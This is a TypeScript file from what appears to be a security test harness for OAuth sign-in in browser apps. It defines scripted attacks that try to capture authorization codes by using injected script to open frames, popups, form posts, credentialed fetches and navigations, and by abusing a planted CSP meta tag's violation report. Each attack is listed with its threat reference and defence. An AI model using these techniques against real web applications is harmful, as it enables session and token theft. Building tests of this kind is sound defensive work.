import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import {
  authorizationUrl,
  OWN_CHALLENGE,
  ownSignIn,
  RESPONSE_MODES,
  removeTheWorker,
} from '../sign-in-of-its-own.js';
import { withoutHeaders, withPageAtRedirectPath } from '../weak/weaken.js';

/** Every kind of frame that a script can make, each led to the authorization server. */
async function signInFramed(url: string): Promise<void> {
  const frames: HTMLElement[] = [];
  const add = (attributes: Record<string, string>, tag = 'iframe') => {
    const frame = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    document.body.append(frame);
    frames.push(frame);
    return frame as HTMLIFrameElement;
  };
  const inner = `<iframe src="${url.replaceAll('&', '&amp;')}"></iframe>`;
  add({ src: url });
  add({ src: url, sandbox: 'allow-scripts allow-same-origin allow-forms' });
  add({ data: url }, 'object');
  add({ src: url }, 'embed');
  add({ srcdoc: inner });
  add({ src: URL.createObjectURL(new Blob([inner], { type: 'text/html' })) });
  add({ src: `data:text/html,${encodeURIComponent(inner)}` });
  const blank = add({});
  blank.contentDocument?.write(inner);
  const form = document.createElement('form');
  form.action = url.split('?')[0] ?? '';
  form.target = 'framed';
  for (const [name, value] of new URL(url).searchParams) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  document.body.append(form);
  add({ name: 'framed' });
  try {
    form.submit();
  } catch {
    // Firefox throws where the policy forbids it.
  }
  await Promise.all(
    frames.map((frame) => attacker.watch('frame', () => (frame as HTMLIFrameElement).contentWindow, 700)),
  );
  for (const frame of frames) frame.remove();
}

/** A popup, and a form that answers into one. */
async function signInInPopup(url: string): Promise<void> {
  const popup = attacker.native.open(url, 'attacker');
  await attacker.watch('popup', () => popup, 900);
  const form = document.createElement('form');
  Object.assign(form, { action: url.split('?')[0], target: 'attacker' });
  for (const [name, value] of new URL(url).searchParams)
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  document.body.append(form);
  try {
    form.submit();
  } catch {
    // Firefox throws where the policy forbids it.
  }
  await attacker.watch('popup', () => popup, 500);
}

async function run(stage: Stage): Promise<void> {
  await stage.run(removeTheWorker, undefined);
  for (const mode of RESPONSE_MODES) {
    const url = await authorizationUrl(ownSignIn(stage, mode), OWN_CHALLENGE);
    await stage.run(signInFramed, url);
    await stage.runInClick(signInInPopup, url);
    await stage.run(
      (target) =>
        void attacker.native.fetch(target, { credentials: 'include' }).then(
          (r) => attacker.take('fetch', r),
          () => 0,
        ),
      url,
    );
  }
  // The page goes itself, and the person comes back.
  for (const mode of RESPONSE_MODES) {
    const url = await authorizationUrl(ownSignIn(stage, mode), OWN_CHALLENGE);
    await stage.leaveFor(url);
    await stage.until('location.hash.includes("sign-in-lost") || location.pathname.startsWith("/session/")', {
      mayFail: true,
      forMs: 3000,
    });
    await stage.pause(200);
    await stage.run(removeTheWorker, undefined).catch(() => undefined);
  }
}

/** So that the sink, not the authorization server, has to hold. */
const ALL_MODES = { system: { responseModes: RESPONSE_MODES } };

export const ownSignInAttack: Attack = {
  name: 'own sign-in',
  tries:
    'unregisters the worker; signs in with a verifier of its own by frames, popup, form, fetch and navigation; query, fragment, form_post',
  threat: '5.1.3',
  defence:
    'the server answers the redirect path with a redirect; the policy names the authorization server nowhere; COOP',
  deployment: ALL_MODES,
  weakness: {
    without: 'the answer at the redirect path: a page stands there',
    weaken: withPageAtRedirectPath,
  },
  run,
};

export const policyReport: Attack = {
  name: 'policy report',
  tries:
    'lets a policy of its own block the hop to the redirect path, and reads the blocked URL in the report',
  threat: '5.1.3',
  defence: "the page's policy blocks the first hop, so no code is made",
  deployment: ALL_MODES,
  weakness: {
    without: "the page's policy",
    weaken: (stage) => withoutHeaders(stage, ['content-security-policy']),
    harmlessIn: { firefox: 'Firefox cuts the blocked URL of a redirect down to its origin' },
  },
  run: async (stage) => {
    await stage.run(removeTheWorker, undefined);
    const url = await authorizationUrl(ownSignIn(stage, 'query'), OWN_CHALLENGE);
    await stage.run(
      async ({ issuer, target }) => {
        const meta = document.createElement('meta');
        meta.httpEquiv = 'Content-Security-Policy';
        meta.content = `frame-src ${issuer}; object-src ${issuer}`;
        document.head.append(meta);
        for (const [tag, attribute] of [
          ['iframe', 'src'],
          ['object', 'data'],
          ['embed', 'src'],
        ] as const) {
          const element = document.createElement(tag);
          element.setAttribute(attribute, target);
          document.body.append(element);
        }
        await attacker.pause(1500);
      },
      { issuer: stage.system.authorizationServer.issuer, target: url },
    );
  },
};
